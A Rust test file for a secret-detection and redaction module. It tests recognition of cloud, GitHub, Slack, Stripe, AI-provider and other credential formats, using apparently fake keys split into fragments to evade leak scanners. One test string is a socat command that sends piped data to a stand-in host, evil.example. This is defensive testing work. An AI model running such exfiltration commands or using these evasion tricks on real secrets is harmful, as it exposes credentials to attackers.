use super::*;

fn kinds(text: &str) -> Vec<&'static str> {
    find(text).into_iter().map(|m| m.kind).collect()
}

/// Keys are joined here so that no scanner takes this file for a leak.
fn key(parts: &[&str]) -> String {
    parts.concat()
}

const R36: &str = "a8Zk3LmQ9xT2vB7nC4wE6rY1uI5oP0sDfGhJ";

#[test]
fn keys_with_a_mark() {
    for (text, kind) in [
        (key(&["AK", "IA", "QYLPMN5HHHFPZAM2"]), "aws-key-id"),
        (key(&["gh", "p_", R36]), "github-token"),
        (key(&["gl", "pat-", "x9K2mP4qR7tV1wY3zA5c"]), "gitlab-token"),
        (key(&["xox", "b-", "263594206564-2343594206574-FGqddMF8t08v8N7Oq4i57vs1"]), "slack-token"),
        (key(&["sk_", "live_", "4eC39HqLyjWDarjtT1zdp7dc"]), "stripe-key"),
        (key(&["sk-", "ant-", "api03-", R36, R36]), "anthropic-key"),
        (key(&["sk-", "proj-", R36]), "openai-key"),
        (key(&["AI", "za", "SyD3kQ9xT2vB7nC4wE6rY1uI5oP0sDfGhJk"]), "google-api-key"),
        (key(&["np", "m_", R36]), "npm-token"),
        (
            key(&["SG", ".ngeVfQFYQlKU0ufo8x5d1A", ".TwL2iGABf9DHoTf-09kqeF8tAmbihYzrnopKc-1s5cr"]),
            "sendgrid-key",
        ),
        (
            key(&[
                "eyJhbGciOiJIUzI1NiJ9",
                ".eyJzdWIiOiIxMjM0NTY3ODkwIn0",
                ".dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P",
            ]),
            "json-web-token",
        ),
        (key(&["110201543", ":AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw2"]), "telegram-token"),
        (
            key(&["https://hooks.slack", ".com/services/T024BE7LD/B03JDV7QN/", "x9K2mP4qR7tV1wY3zA5cB8dE"]),
            "slack-webhook",
        ),
    ] {
        assert_eq!(kinds(&text), [kind], "{text}");
        assert_eq!(kinds(&format!("curl -H 'X-Key: {text}' https://a.example")), [kind], "{text}");
    }
}

#[test]
fn assigned_values() {
    for (text, secret) in [
        ("export DB_PASSWORD=hunter2xyz", "hunter2xyz"),
        ("psql \"password='s3cr3t!pw' host=db\"", "s3cr3t!pw"),
        ("mysql --password=letmein", "letmein"),
        ("tool --token 9f8a7b6c5d4e3f2a1b0c", "9f8a7b6c5d4e3f2a1b0c"),
        ("{\"api_key\": \"Zk3LmQ9xT2vB7nC4\"}", "Zk3LmQ9xT2vB7nC4"),
        ("curl -u admin:Tr0ub4dor x", "Tr0ub4dor"),
        ("git clone https://bob:Tr0ub4dor&3@git.example/x", "Tr0ub4dor&3"),
        ("-H 'Authorization: Bearer Zk3LmQ9xT2vB7nC4'", "Zk3LmQ9xT2vB7nC4"),
        (
            "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYQ9xT2vB7nC",
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYQ9xT2vB7nC",
        ),
        (
            "AccountName=a;AccountKey=Zk3LmQ9xT2vB7nC4wE6rY1uI5oP0sDfG==;X=y",
            "Zk3LmQ9xT2vB7nC4wE6rY1uI5oP0sDfG==",
        ),
    ] {
        let found = find(text);
        assert_eq!(found.iter().map(|m| m.span.of(text)).collect::<Vec<_>>(), [secret], "{text}");
    }
}

#[test]
fn private_keys() {
    let body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
    let text =
        format!("x\n-----BEGIN RSA {}-----\n{body}\n-----END RSA {}-----\ny", "PRIVATE KEY", "PRIVATE KEY");
    assert_eq!(redact(&text), "x\n[redacted private-key]\ny");
    assert_eq!(kinds(&format!("-----BEGIN {}-----\\n{body}", "PRIVATE KEY")), ["private-key"]);
    assert!(
        find("-----BEGIN PUBLIC KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7").is_empty()
    );
}

#[test]
fn what_is_no_secret() {
    for text in [
        "export TOKEN=$GITHUB_TOKEN",
        "password=${DB_PASSWORD}",
        "--password \"$PW\"",
        "api_key: your-key-here",
        "token: <token>",
        "PASSWORD=changeme",
        "secret=xxxxxxxxxxxx",
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "const token = await getToken(user)",
        "password: string",
        "tokenizer = AutoTokenizer.from_pretrained(name1)",
        "fn verify(password: &str, token: Token<'a>)",
        "docker run -u 1000:1000 image",
        "postgres://user:password@localhost/db",
        "https://example.com:8080/a@b",
        "git commit -m 'fix token: refresh when expired'",
        "max_tokens=4096000",
        "password_file=/run/secrets/db_1",
        "password=[redacted password]",
        "gh secret set NAME",
        "mysqldump --password database_name t",
        "ssh-keygen --signing-key path/to/key_file1",
        "openvpn --secret path/to/key",
        "gh auth token --hostname github1.example",
        "privateKey: Uint8Array, publicKey: Uint8Array",
        "var progressToken = ctx.Params1.Meta?.ProgressToken;",
        "credentialsId: 'f4aeb6bc-2a25-458a-8111-9be9e502c0e7'",
        "arn:aws:secretsmanager:eu-1:12:secret:name-18-4Rzn83",
        "-----BEGIN (RSA |EC )?PRIVATE KEY( BLOCK)?-----[A-Za-z0-9]{40,2000}abcdefghijklmnop",
        "socat -u PIPE:existing-fifo TCP:evil.example:44",
        "token: 'xxxxXXXX12345678'",
        "postgresql://user:pass@localhost/db",
        "docker login --password-stdin registry1.example.com",
        "hf_servingcellpriorityparametersdescription",
        "sk-learn-0.22-incompatible-with-this-version-of-things",
    ] {
        assert_eq!(find(text), [], "{text}");
    }
}

#[test]
fn redaction_is_idempotent_and_keeps_the_rest() {
    let text = format!("a=1 password=hunter2xyz ünï {} z", key(&["gh", "p_", R36]));
    let once = redact(&text);
    assert_eq!(once, "a=1 password=[redacted password] ünï [redacted github-token] z");
    assert_eq!(redact(&once), once);
}

#[test]
fn never_panics_on_odd_bytes() {
    for text in [
        "",
        "=",
        ":",
        "--",
        "-----BEGIN ",
        "://",
        "a://b:c@",
        "password=",
        "password='",
        "é=é",
        "Bearer ",
        "eyJ.",
        "token:\\\"",
    ] {
        let _ = find(text);
    }
}
